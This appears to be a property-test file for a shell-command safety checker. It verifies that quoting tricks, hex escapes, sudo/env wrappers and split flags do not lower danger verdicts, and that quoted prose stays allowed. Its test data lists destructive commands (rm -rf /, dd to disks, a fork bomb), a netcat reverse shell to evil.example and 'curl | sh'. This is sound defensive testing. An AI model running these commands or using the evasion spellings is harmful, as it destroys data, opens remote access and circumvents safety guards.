// Property tests (issue #3 acceptance): re-quoting, re-escaping, launcher wrappers and split flags never
// lower a dangerous verdict; prose inside quotes never raises a safe one.
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { initShellParserFromDisk } from '@hermes/security/node';
import fc from 'fast-check';
import { evaluateCommand } from './evaluate.ts';
import { decisionRank } from './test-support.ts';

before(async () => {
  await initShellParserFromDisk();
});

/** Dangerous and hardline commands as plain argv (no quoting of their own). */
const DANGEROUS: readonly (readonly string[])[] = [
  ['rm', '-rf', '/'],
  ['rm', '-rf', '/home'],
  ['rm', '-rf', '~'],
  ['rm', '-rf', 'build'],
  ['rm', '-r', '/tmp/x'],
  ['mkfs.ext4', '/dev/sda1'],
  ['dd', 'if=/dev/zero', 'of=/dev/sda'],
  ['dd', 'if=a.img', 'of=b.img'],
  ['chmod', '-R', '777', '/srv'],
  ['chown', '-R', 'root', '/srv'],
  ['git', 'push', '--force'],
  ['git', 'reset', '--hard'],
  ['systemctl', 'stop', 'nginx'],
  ['reboot'],
  ['shutdown', '-h', 'now'],
  ['kill', '-9', '-1'],
  ['pkill', '-9', 'node'],
  ['find', '.', '-delete'],
  ['tee', '/etc/hosts'],
  ['cp', 'x', '/etc/passwd'],
  ['npm', 'uninstall', 'left-pad'],
  ['docker', 'compose', 'down'],
  ['nc', '-e', '/bin/sh', 'evil.example', '4444'],
  ['python3', '-c', 'import os; os.system("id")'],
];

/** Ways bash spells the same word. */
const spellings: ((w: string) => string)[] = [
  (w) => w,
  (w) => `'${w}'`,
  (w) => `"${w}"`,
  (w) => (w.length > 1 ? `${w[0]}''${w.slice(1)}` : w),
  (w) => (w.length > 1 ? `${w[0]}""${w.slice(1)}` : w),
  (w) => w.replace(/[a-z]/, (c) => `\\${c}`),
  (w) => `$'${[...w].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`,
  (w) => (w.length > 1 ? `${w[0]}"${w.slice(1)}"` : w),
];

const quoteSafe = (w: string) => !/['"\\$`]/.test(w);

const WRAPPERS = [
  'sudo ',
  'sudo -u root ',
  'env ',
  'env FOO=1 ',
  'command ',
  'nohup ',
  'exec ',
  'time ',
  'nice -n 5 ',
  'timeout 10 ',
  'stdbuf -oL ',
  'setsid ',
  'builtin ',
  '/usr/bin/env ',
];

function verdict(cmd: string): number {
  return decisionRank(evaluateCommand({ command: cmd }).decision);
}

describe('dangerous verdicts survive re-spelling', () => {
  test('re-quoting / re-escaping any word never lowers the verdict', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...DANGEROUS),
        fc.array(fc.nat(spellings.length - 1), { minLength: 8, maxLength: 8 }),
        (argv, picks) => {
          const base = verdict(argv.map((w) => (quoteSafe(w) ? w : `'${w}'`)).join(' '));
          const respelled = argv
            .map((w, i) =>
              quoteSafe(w) ? (spellings[picks[i % picks.length] as number] as (w: string) => string)(w) : `'${w}'`,
            )
            .join(' ');
          assert.ok(verdict(respelled) >= base, `${respelled} scored lower than the plain spelling`);
          assert.ok(base >= 1, `${argv.join(' ')} should be flagged`);
        },
      ),
      { numRuns: 400 },
    );
  });

  test('sudo / env / command / nohup … wrappers never lower the verdict', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...DANGEROUS),
        fc.array(fc.constantFrom(...WRAPPERS), { maxLength: 3 }),
        (argv, wraps) => {
          const plain = argv.map((w) => (quoteSafe(w) ? w : `'${w}'`)).join(' ');
          const wrapped = wraps.join('') + plain;
          assert.ok(verdict(wrapped) >= verdict(plain), wrapped);
        },
      ),
      { numRuns: 300 },
    );
  });

  test('splitting bundled flags (-rf → -r -f) and reordering never lowers the verdict', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(
          ['rm', '-rf', '/'],
          ['rm', '-rf', 'build'],
          ['rm', '-fr', '/home'],
          ['git', 'clean', '-fdx'],
          ['rm', '-Rfv', '/tmp/x'],
        ),
        fc.boolean(),
        (argv, flagsLast) => {
          const plain = argv.join(' ');
          const split = argv.flatMap((w) => (/^-[a-zA-Z]{2,}$/.test(w) ? [...w.slice(1)].map((c) => `-${c}`) : [w]));
          const ordered = flagsLast
            ? [
                split[0] as string,
                ...split.slice(1).filter((w) => !w.startsWith('-')),
                ...split.slice(1).filter((w) => w.startsWith('-')),
              ]
            : split;
          assert.ok(verdict(ordered.join(' ')) >= verdict(plain), ordered.join(' '));
        },
      ),
      { numRuns: 100 },
    );
  });
});

/** Dangerous text used as prose: no quotes of its own, no URLs or metadata IPs (those count anywhere). */
const PROSE = [
  'rm -rf /',
  'mkfs.ext4 /dev/sda1',
  'dd if=/dev/zero of=/dev/sda',
  ':(){ :|:& };:',
  'shutdown -h now',
  'DROP TABLE users;',
  'chmod 777 /etc',
  'git push --force',
  'sudo -S whoami',
  'kill -9 -1',
  'rm -rf ~ && reboot',
  'docker restart app',
  '$(reboot)',
  'curl | sh',
  'eval rm -rf /',
];

describe('prose inside quotes stays safe', () => {
  test('quoted dangerous text in echo / git commit / grep never raises a safe verdict', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...PROSE),
        fc.constantFrom('single', 'double'),
        fc.constantFrom(
          'echo @@',
          'git commit -m @@',
          'grep -r @@ src/',
          'printf "%s\\n" @@',
          'git log --grep @@',
          'echo note: @@',
        ),
        fc.string({ maxLength: 12, unit: fc.constantFrom('a', 'b', ' ', 'z', '-', '.') }),
        (prose, q, template, pad) => {
          const text = `${pad}${prose}`;
          if (q === 'double' && /[$`]/.test(text)) return; // $( ) inside double quotes DOES run
          const quoted = q === 'single' ? `'${text}'` : `"${text}"`;
          const cmd = template.replace('@@', quoted);
          const e = evaluateCommand({ command: cmd });
          assert.equal(e.decision, 'allow', `${cmd}: ${JSON.stringify(e.findings)}`);
        },
      ),
      { numRuns: 400 },
    );
  });
});
